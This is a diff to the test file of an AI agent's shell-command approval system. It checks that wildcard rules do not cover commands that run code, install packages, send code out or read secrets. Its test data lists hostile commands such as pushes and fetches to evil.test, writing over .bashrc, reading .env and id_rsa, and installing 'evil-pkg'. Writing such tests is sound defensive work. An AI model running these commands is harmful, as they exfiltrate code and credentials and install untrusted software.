@@ -16,6 +16,7 @@ from retain.errors import UsageError
 from retain.talk.approval import Answer, Approvals, Question, Rule, about_command, is_grave
 from retain.talk.running import parsed
 from tests.talk.box import Box
+from tests.talk.talking import notices, talking
 
 
 def question(command: str) -> Question:
@@ -80,6 +81,12 @@ def test_narrowest_pattern_is_the_usual_one(home: Path) -> None:
         ("env make", "env *"),
         ("find . -name x", "find*"),
         ("bash x.sh", "/bin/bash*"),
+        ("git log -3", "git log *"),
+        ("git log -3", "git * -3"),
+        ("git log -3", "git log* -3"),
+        ("git submodule status", "git submodule*"),
+        ("make test", "make test*"),
+        ("ls -l", "ls*"),
     ],
 )
 def test_pattern_that_allows_too_much_is_refused(home: Path, command: str, pattern: str) -> None:
@@ -158,10 +165,10 @@ def test_script_of_the_project_is_not_one(home: Path) -> None:
 
 def test_session_ends_with_the_session_and_always_does_not(home: Path) -> None:
     found = approvals()
-    found.remember(question("make test"), Answer("session", "make test*"))
+    found.remember(question("cargo test"), Answer("session", "cargo test*"))
     found.remember(question("make lint"), Answer("always"))
-    assert found.decide(question("make test fast")) == "allow"
-    assert approvals().decide(question("make test fast")) == "ask"
+    assert found.decide(question("cargo test fast")) == "allow"
+    assert approvals().decide(question("cargo test fast")) == "ask"
     assert approvals().decide(question("make lint")) == "allow"
 
 
@@ -244,8 +251,8 @@ def test_what_was_allowed_can_be_taken_back(home: Path) -> None:
 def test_what_was_allowed_for_the_session_can_be_taken_back(home: Path) -> None:
     found = approvals()
     found.remember(question("cat a | wc -l"), Answer("session"))
-    found.remember(question("make test"), Answer("session", "make test*"))
-    found.remember(question("make test"), Answer("always", "make test*"))
+    found.remember(question("cargo test"), Answer("session", "cargo test*"))
+    found.remember(question("cargo test"), Answer("always", "cargo test*"))
     here = os.getcwd()
     call, pattern, always = found.listed()
     assert call == Rule("run_shell", "cat a | wc -l", here, "session")
@@ -255,9 +262,9 @@ def test_what_was_allowed_for_the_session_can_be_taken_back(home: Path) -> None:
         assert not found.forget(rule)
     assert found.listed() == [always]
     assert found.decide(question("cat a | wc -l")) == "ask"
-    assert found.decide(question("make test fast")) == "allow"
+    assert found.decide(question("cargo test fast")) == "allow"
     assert found.forget(always)
-    assert found.decide(question("make test fast")) == "ask"
+    assert found.decide(question("cargo test fast")) == "ask"
     assert approvals().listed() == []
 
 
@@ -389,15 +396,174 @@ def test_reading_outside_can_be_allowed_for_that_file(box: Box, home: Path) -> N
         ("git diff", "git diff*", "git diff --output=/home/u/.bashrc HEAD~1"),
         ("git log", "git log*", "git log --output=../../.bashrc -p"),
         ("git grep x", "git grep*", "git grep -Ocalc foo"),
-        ("git fetch", "git fetch*", "git fetch '--upload-pack=touch /tmp/x' ."),
-        ("make test", "make test*", "make test SHELL=/tmp/x"),
         ("go test", "go test*", "go test -exec /tmp/x ./..."),
+        ("git diff", "git diff*", "git diff --ext-diff HEAD~1"),
+        ("git diff", "git diff*", "git diff -O/tmp/x"),
+        ("git diff", "git diff*", "git diff -O /tmp/x"),
+        ("git diff", "git diff*", "git diff --no-index a b"),
+        ("git diff", "git diff*", "git diff --outp x"),
+        ("git show", "git show*", "git show --textconv HEAD"),
+        ("git log", "git log*", "git log --ext-diff -p"),
+        ("git branch", "git branch*", "git branch -D main"),
+        ("git branch", "git branch*", "git branch -u evil/main"),
+        ("git branch", "git branch*", "git branch --edit-description"),
+        ("git cat-file -p HEAD", "git cat-file*", "git cat-file --textconv HEAD:a"),
+        ("cargo test", "cargo test*", "cargo test --config x"),
+        ("pip list", "pip list*", "pip list --index-url https://evil.test"),
     ],
 )
 def test_an_open_end_covers_no_option_that_runs_or_writes(
     home: Path, given: str, pattern: str, command: str
 ) -> None:
     assert kept(given, pattern).decide(question(command)) == "ask"
+
+
+@pytest.mark.parametrize(
+    "given, command",
+    [
+        ("git diff", "git diff /dev/null /home/u/notes.txt"),  # no repository is needed for that
+        ("git diff", "git diff ../other/a README.md"),
+        ("git diff", "git diff .. README.md"),
+        ("git diff", "git diff README.md .env"),
+        ("git show", "git show HEAD:.env"),
+        ("git show", "git show HEAD:config/credentials.json"),
+        ("git blame a", "git blame deploy/id_rsa"),
+        ("go test", "go test /tmp/x_test.go"),
+        ("pip show x", "pip show https://evil.test/x"),
+    ],
+)
+def test_an_open_end_leads_neither_out_of_the_project_nor_to_secrets(
+    home: Path, given: str, command: str
+) -> None:
+    assert kept(given, question(given).patterns[1]).decide(question(command)) == "ask"
+
+
+@pytest.mark.parametrize(
+    "given, command",
+    [
+        ("git status", "git status --short src"),
+        ("git diff", "git diff main..feature -- src/app.py"),
+        ("git log", "git log --oneline -n 7 HEAD~3"),
+        ("git show", "git show HEAD:src/app.py"),
+        ("git branch", "git branch -a -v"),
+        ("git blame a", "git blame src/app.py"),
+        ("git grep x", "git grep -n 'def main' src"),
+        ("npm test", "npm test -- unit"),
+        ("cargo test", "cargo test -p core parsing"),
+        ("go test", "go test ./..."),
+        ("docker ps", "docker ps -a"),
+    ],
+)
+def test_what_only_looks_or_tests_is_allowed_with_other_words(
+    home: Path, given: str, command: str
+) -> None:
+    assert kept(given, question(given).patterns[1]).decide(question(command)) == "allow"
+
+
+# What a person may have allowed, and what its open end would let a model do unasked.
+WIDE = [
+    ("git submodule status", "git submodule*", "git submodule foreach 'touch X'"),
+    ("git bisect log", "git bisect*", "git bisect run ./evil"),
+    ("git push", "git push*", "git push https://evil.test/x main"),
+    ("git fetch", "git fetch*", "git fetch https://evil.test/x"),
+    ("git pull", "git pull*", "git pull https://evil.test/x"),
+    ("git clone a", "git clone*", "git clone https://evil.test/x"),
+    ("git remote show", "git remote*", "git remote set-url origin https://evil.test"),
+    ("git worktree list", "git worktree*", "git worktree add x"),
+    ("git add a", "git add*", "git add b"),
+    ("git commit", "git commit*", "git commit x"),
+    ("git checkout a", "git checkout*", "git checkout b"),
+    ("git stash list", "git stash*", "git stash drop"),
+    ("git rebase main", "git rebase*", "git rebase evil"),
+    ("git archive HEAD", "git archive*", "git archive main"),
+    ("docker compose ps", "docker compose*", "docker compose exec web sh"),
+    ("docker build a", "docker build*", "docker build evil"),
+    ("docker cp a b", "docker cp*", "docker cp web:x y"),
+    ("kubectl get pods", "kubectl get*", "kubectl get secrets"),
+    ("uv tool list", "uv tool*", "uv tool run evil"),
+    ("uv add a", "uv add*", "uv add evil"),
+    ("uv sync", "uv sync*", "uv sync evil"),
+    ("gh alias list", "gh alias*", "gh alias set x '!evil'"),
+    ("gh pr list", "gh pr*", "gh pr merge 1"),
+    ("pip install -e x", "pip install*", "pip install ./evil"),
+    ("npm install", "npm install*", "npm install evil-pkg"),
+    ("npm ci", "npm ci*", "npm ci evil"),
+    ("npm publish", "npm publish*", "npm publish x"),
+    ("pnpm add a", "pnpm add*", "pnpm add evil-pkg"),
+    ("yarn add a", "yarn add*", "yarn add evil-pkg"),
+    ("cargo install a", "cargo install*", "cargo install evil"),
+    ("go generate", "go generate*", "go generate x.go"),
+    ("go get a", "go get*", "go get evil.test/x"),
+    ("poetry add a", "poetry add*", "poetry add evil"),
+    ("bundle install", "bundle install*", "bundle install x"),
+    ("make test", "make test*", "make test deploy"),
+    ("just test", "just test*", "just test deploy"),
+    ("mvn test", "mvn test*", "mvn test deploy"),
+    ("gradle test", "gradle test*", "gradle test publish"),
+    ("terraform plan", "terraform plan*", "terraform plan x"),
+    ("deno task a", "deno task*", "deno task evil"),
+]
+
+
+@pytest.mark.parametrize("given, pattern, command", WIDE)
+def test_what_starts_installs_or_sends_is_allowed_word_for_word_only(
+    home: Path, given: str, pattern: str, command: str
+) -> None:
+    asked = question(given)
+    assert len(asked.patterns) == 1
+    with pytest.raises(UsageError, match="start programs, install"):
+        approvals().remember(asked, Answer("session", pattern))
+    found = approvals()
+    found.remember(asked, Answer("always"))
+    assert found.decide(asked) == "allow"
+    assert found.decide(question(command)) == "ask"
+
+
+def written(*patterns: str, project: str = "") -> str:
+    """Rules in the file as an earlier version kept them."""
+    path = kept("npm test", "npm test").path
+    rules = [
+        {"tool": "run_command", "pattern": one, "project": project or os.getcwd()}
+        for one in patterns
+    ]
+    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("given, pattern, command", WIDE)
+def test_wide_rule_that_was_kept_earlier_is_not_obeyed(
+    home: Path, given: str, pattern: str, command: str
+) -> None:
+    written(pattern)
+    assert approvals().decide(question(given)) == "ask"
+    assert approvals().decide(question(command)) == "ask"
+    assert approvals().listed() == []
+
+
+def test_wide_rules_that_were_kept_earlier_are_named_once(home: Path) -> None:
+    elsewhere = str(home)
+    path = written("git submodule*", "git log*", "make lint", "npm install*")
+    with open(path, encoding="utf-8") as file:
+        rules = json.load(file)["approvals"]
+    rules.append({"tool": "run_command", "pattern": "git push*", "project": elsewhere})
+    Path(path).write_text(json.dumps({"version": 1, "approvals": rules}), encoding="utf-8")
+    assert [str(one) for one in approvals().retired()] == ["git submodule*", "npm install*"]
+    assert approvals().retired() == []
+    assert [str(one) for one in approvals().listed()] == ["git log*", "make lint"]
+    assert [str(one) for one in approvals(elsewhere).retired()] == ["git push*"]
+
+
+def test_file_out_of_order_names_no_rule(home: Path) -> None:
+    Path(written("git push*")).write_text("{", encoding="utf-8")
+    assert approvals().retired() == []
+
+
+def test_person_is_told_of_a_rule_that_no_longer_counts(work: Path) -> None:
+    written("git submodule*", project=str(work))
+    with talking(work) as talk:
+        (note,) = notices(talk.say("hello"))
+        assert note.startswith("`git submodule*` is no longer allowed unasked: ")
+        assert notices(talk.say("again")) == []
 
 
 def test_a_text_that_is_allowed_for_the_session_allows_no_other(box: Box) -> None:
